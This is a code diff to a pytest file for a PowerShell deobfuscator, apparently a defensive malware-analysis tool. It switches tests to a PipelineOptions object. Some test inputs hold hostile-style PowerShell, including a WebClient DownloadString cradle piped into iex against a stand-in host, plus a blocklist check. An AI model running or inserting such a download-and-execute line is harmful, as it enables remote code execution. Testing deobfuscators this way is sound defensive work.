@@ -9,7 +9,7 @@ import random
 
 import pytest
 
-from repro import Deobfuscator
+from repro import PipelineOptions, Deobfuscator
 from repro.obfuscation.function_wrap import (
     nested_function_decoder,
     wrap_function_decoder,
@@ -37,7 +37,7 @@ class TestExtension:
     @pytest.mark.parametrize("seed", [1, 2, 3, 4, 5])
     def test_trace_functions_recovers(self, seed):
         obfuscated = wrap_function_decoder(PAYLOAD, random.Random(seed))
-        tool = Deobfuscator(trace_functions=True)
+        tool = Deobfuscator(options=PipelineOptions(trace_functions=True))
         result = tool.deobfuscate(obfuscated)
         assert "write-host function-hidden" in result.script.lower(), (
             obfuscated
@@ -45,7 +45,7 @@ class TestExtension:
 
     def test_nested_functions_recovered(self):
         obfuscated = nested_function_decoder(PAYLOAD, random.Random(7))
-        tool = Deobfuscator(trace_functions=True)
+        tool = Deobfuscator(options=PipelineOptions(trace_functions=True))
         result = tool.deobfuscate(obfuscated)
         assert "write-host function-hidden" in result.script.lower()
 
@@ -54,20 +54,20 @@ class TestExtension:
             "function Bad-Decode { param($s) start-sleep 99; $s }\n"
             "iex (Bad-Decode 'write-host x')"
         )
-        tool = Deobfuscator(trace_functions=True)
+        tool = Deobfuscator(options=PipelineOptions(trace_functions=True))
         result = tool.deobfuscate(script)
         # The body contains a blocklisted command: the definition is not
         # registered and the call site stays unrecovered.
         assert "Bad-Decode 'write-host x'" in result.script
 
     def test_behavior_preserved_with_extension(self):
-        from repro.analysis.behavior import same_network_behavior
+        from repro.verify import same_network_behavior
 
         inner = (
             "(New-Object Net.WebClient)"
             ".DownloadString('http://fx.test/p')|iex"
         )
         obfuscated = wrap_function_decoder(inner, random.Random(9))
-        tool = Deobfuscator(trace_functions=True)
+        tool = Deobfuscator(options=PipelineOptions(trace_functions=True))
         result = tool.deobfuscate(obfuscated)
         assert same_network_behavior(obfuscated, result.script)
